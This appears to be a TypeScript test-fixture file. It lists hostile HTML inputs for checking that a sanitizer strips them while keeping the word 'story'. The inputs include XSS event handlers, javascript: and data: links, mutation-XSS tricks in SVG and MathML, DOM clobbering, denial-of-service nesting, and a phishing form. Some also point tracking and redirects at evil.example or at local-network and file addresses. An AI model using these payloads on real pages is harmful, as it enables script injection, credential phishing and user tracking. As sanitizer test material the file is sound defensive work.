/** Hostile markup written for this project, by what it tries. Each has one word, "story", that must survive where it says so. */
export interface Attack {
  name: string;
  html: string;
  /** Whether the word "story" is text a reader should still see. */
  keeps?: true;
}

const attack = (name: string, html: string, keeps?: 'keeps'): Attack =>
  keeps ? { name, html, keeps: true } : { name, html };

/** What swallows all that follows where nobody ends it, each written so that no later round of an article does. */
const LEFT_OPEN: readonly [name: string, html: string][] = [
  ['a frame', '<iframe src="https://a.example/">'],
  ['a frame closed as in XML', '<iframe src="https://a.example/"/>'],
  ['a video', '<video src="https://a.example/v.mp4"><source src="https://a.example/w.mp4">'],
  ['a player without an address', '<audio preload>'],
  ['a script', '<script async>run()'],
  ['a script in a comment', '<script><!-- <script></script>'],
  ['a sheet', '<style media=all>'],
  ['a text field', '<textarea rows=3>'],
  ['a title', '<title>'],
  ['a choice', '<select><option>one<option>two'],
  ['a template', '<template id=t>'],
  ['a part for browsers without scripts', '<noscript><img src="https://a.example/x.png">'],
  ['old plain text', '<plaintext>'],
  ['an example', '<xmp>'],
  ['a comment', '<!-- to be continued '],
  ['a quote', '<a title="'],
  ['a drawing', '<svg><title><template>'],
  ['a fold', '<details><summary>More</summary>'],
  ['a form whose fields are called like its parts', '<form><input name=attributes><input name=hasChildNodes>'],
  ['an annotation', '<math><annotation-xml encoding="text/html">'],
];

/** Small documents that kept a browser busy for up to half a minute. */
const SLOW: readonly [name: string, html: string][] = [
  ['links in bold', '<a><b>'.repeat(20_000)],
  ['bold in italics', '<b><i>'.repeat(20_000)],
  ['tables in tables', '<table><tr><td><b>'.repeat(5000)],
  ['one paragraph of many attributes', `<p ${Array.from({ length: 60_000 }, (_, n) => `a${n}=1`).join(' ')}>`],
  ['players', '<video></video><audio></audio>'.repeat(2000)],
  ['fonts carried on', `${Array.from({ length: 400 }, (_, n) => `<font color=${n}>`).join('')}${'<p>x'.repeat(400)}`],
];

export const ATTACKS: readonly Attack[] = [
  ...LEFT_OPEN.map(([name, html]) => attack(`${name} that never ends`, `<p>before</p>${html}<p>story</p>`, 'keeps')),
  ...SLOW.map(([name, html]) => attack(`${name}, by the thousand`, `${html}<p>story</p>`, 'keeps')),
  attack('a script', '<p>story<script>top.hit = 1</script></p>', 'keeps'),
  attack('a script split by a script', '<scr<script></script>ipt>top.hit = 1</script><p>story</p>'),
  attack('a handler on a picture', '<img src=x onerror="top.hit = 1"><p>story</p>', 'keeps'),
  attack('a handler without quotes or spaces', '<img/src=x/onerror=top.hit=1><p>story</p>', 'keeps'),
  attack(
    'a handler on an allowed element',
    '<details open ontoggle="top.hit = 1"><summary>story</summary>x</details>',
    'keeps',
  ),
  attack('a handler in capitals', '<P ONMOUSEOVER="top.hit = 1">story</P>', 'keeps'),
  attack('a link that runs', '<a href="javascript:top.hit=1">story</a>', 'keeps'),
  attack('a link that runs, with a line break in its scheme', '<a href="java\nscript:top.hit=1">story</a>', 'keeps'),
  attack('a link that runs, in character references', '<a href="&#x6a;avascript&colon;top.hit=1">story</a>', 'keeps'),
  attack('a link that runs, after a control character', '<a href="\u0001javascript:top.hit=1">story</a>', 'keeps'),
  attack('a link to data', '<a href="data:text/html,<script>top.hit=1</script>">story</a>', 'keeps'),
  attack('a link to a file', '<a href="file:///etc/passwd">story</a>', 'keeps'),
  attack('a link to an extension', '<a href="chrome-extension://abc/options.html">story</a>', 'keeps'),
  attack('a link to an app', '<a href="intent://scan/#Intent;end">story</a><a href="ms-settings:">x</a>', 'keeps'),
  attack('a link with a password', '<a href="https://bank.example@evil.example/">story</a>', 'keeps'),
  attack('a blob', '<a href="blob:https://a.example/1">story</a><img src="blob:https://a.example/1">', 'keeps'),
  attack(
    'SVG with a script',
    '<svg><script>top.hit=1</script><a xlink:href="javascript:top.hit=1"><text>x</text></a></svg><p>story</p>',
    'keeps',
  ),
  attack(
    'SVG with a foreign object',
    '<svg><foreignObject><img src=x onerror="top.hit=1"></foreignObject></svg><p>story</p>',
    'keeps',
  ),
  attack(
    'SVG inside MathML',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.hit=1&gt;"></table></mtext></math>',
  ),
  attack(
    'a style inside MathML',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=top.hit=1></style></annotation-xml></math>story',
  ),
  attack(
    'MathML that links',
    '<math><mtext xlink:href="javascript:top.hit=1" href="javascript:top.hit=1">story</mtext></math>',
    'keeps',
  ),
  attack(
    'a title that closes a comment',
    '<noscript><p title="</noscript><img src=x onerror=top.hit=1>"></p></noscript><p>story</p>',
    'keeps',
  ),
  attack(
    'text that closes an element',
    '<textarea><img title="</textarea><img src=x onerror=top.hit=1>"></textarea><p>story</p>',
    'keeps',
  ),
  attack('a template', '<template><img src=x onerror="top.hit=1"></template><p>story</p>', 'keeps'),
  attack(
    'a shadow root',
    '<div><template shadowrootmode="open"><script>top.hit=1</script></template>story</div>',
    'keeps',
  ),
  attack('a frame with its own document', '<iframe srcdoc="<script>top.hit=1</script>"></iframe><p>story</p>', 'keeps'),
  attack('a frame that runs', '<iframe src="javascript:top.hit=1"></iframe><p>story</p>', 'keeps'),
  attack('a frame on the own network', '<iframe src="http://192.168.0.1/reboot"></iframe><p>story</p>', 'keeps'),
  attack(
    'an object and an embed',
    '<object data="javascript:top.hit=1"></object><embed src="data:text/html,x"><p>story</p>',
    'keeps',
  ),
  attack(
    'a form that asks for a password',
    '<form action="https://evil.example"><input name="password"><button>Log in</button></form><p>story</p>',
    'keeps',
  ),
  attack(
    'a button that sends a form elsewhere',
    '<form id=f></form><button form=f formaction="javascript:top.hit=1">story, all of it and more.</button>',
    'keeps',
  ),
  attack(
    'names that shadow the page',
    '<a id=location name=cookie>story</a><img name=getElementById src="https://a.example/x.png">',
    'keeps',
  ),
  attack(
    'forms that shadow themselves',
    '<form><input id=parentNode><input id=attributes><img name=childNodes></form><p>story</p>',
    'keeps',
  ),
  attack(
    'a page that goes away',
    '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/"><p>story</p>',
    'keeps',
  ),
  attack(
    'sheets and preloads',
    '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example"</style><link rel=preload as=image href="https://evil.example/p"><p>story</p>',
    'keeps',
  ),
  attack(
    'a style that covers the page',
    '<div style="position:fixed;inset:0;background:url(https://evil.example/p)" class="modal" id="app">story</div>',
    'keeps',
  ),
  attack(
    'an old background',
    '<table background="https://evil.example/p"><tr><td background="https://evil.example/q">story</td></tr></table>',
    'keeps',
  ),
  attack(
    'a ping',
    '<a href="https://a.example/" ping="https://evil.example/p" download attributionsrc="https://evil.example/r">story</a>',
    'keeps',
  ),
  attack(
    'a picture on the own network',
    '<img src="http://192.168.1.1/logo.png"><img src="https://localhost/x.png"><img src="https://router/x.png"><p>story</p>',
    'keeps',
  ),
  attack(
    'a picture on the own network in other spellings',
    '<img src="https://0x7f.1/x.png"><img src="https://2130706433/x"><img src="https://[::1]/x"><img src="https://printer.local./x"><p>story</p>',
    'keeps',
  ),
  attack(
    'sets that mix good and bad',
    '<img srcset="javascript:x 1x, http://10.0.0.1/x.png 2x, https://a.example/ok.png 3x"><p>story</p>',
    'keeps',
  ),
  attack(
    'a picture without encryption',
    '<img src="http://a.example/x.png"><img src="http://a.example:8080/y.png"><p>story</p>',
    'keeps',
  ),
  attack(
    'pixels',
    '<img width=1 height=1 src="https://a.example/p.gif"><img width=0 height=0 src="https://a.example/q.gif"><img><p>story</p>',
    'keeps',
  ),
  attack(
    'a video that starts by itself',
    '<video autoplay loop src="https://a.example/v.mp4" onplay="top.hit=1"></video><p>story</p>',
    'keeps',
  ),
  attack(
    'a player fed from the own network',
    '<audio src="http://127.0.0.1/a.mp3"></audio><video poster="http://10.0.0.1/p.jpg"><source src="file:///a.mp4"></video><p>story</p>',
    'keeps',
  ),
  attack(
    'a custom built-in',
    '<p is="x-p" onclick="top.hit=1">story</p><x-y onclick="top.hit=1" style="x" src="javascript:1">z</x-y>',
    'keeps',
  ),
  attack('a formula with a custom name', '<math is="x-m"><mi is="x-i">story</mi></math>', 'keeps'),
  attack(
    'comments and instructions',
    '<!-- <img src=x onerror=top.hit=1> --><?xml-stylesheet href="x"?><![CDATA[x]]><p>story</p>',
    'keeps',
  ),
  attack('a frameset', '<frameset onload="top.hit=1"><frame src="javascript:top.hit=1"></frameset>story'),
  attack(
    'a document in a document',
    '<html onload="top.hit=1"><head><title>x</title></head><body onload="top.hit=1"><p>story</p></body></html>',
    'keeps',
  ),
  attack('an element that never closes', '<p>story <a href="https://a.example/" title="', 'keeps'),
  attack('null bytes', '<scr\u0000ipt>top.hit=1</scr\u0000ipt><im\u0000g src=x onerror=top.hit=1><p>story</p>'),
  attack(
    'widths that are no numbers',
    '<img src="https://a.example/x.png" width="expression(1)" height="100vh"><td colspan="99999999">x</td><p>story</p>',
    'keeps',
  ),
  attack(
    'a popover and a dialog',
    '<div popover id=x>a</div><button popovertarget=x>b</button><dialog open>story</dialog>',
    'keeps',
  ),
  attack(
    'names in lazy attributes',
    '<img data-src="javascript:top.hit=1"><img data-srcset="http://10.0.0.1/x 2x"><img data-src="https://a.example/x.png"><p>story</p>',
    'keeps',
  ),
  attack('boxes nested six hundred deep', `${'<div>'.repeat(600)}story${'</div>'.repeat(600)}`, 'keeps'),
  attack('phrases nested deep', `${'<b><i><u>'.repeat(200)}story`, 'keeps'),
  attack(
    'a thousand attributes',
    `<p ${Array.from({ length: 1000 }, (_, index) => `a${index}=1`).join(' ')}>story</p>`,
    'keeps',
  ),
];
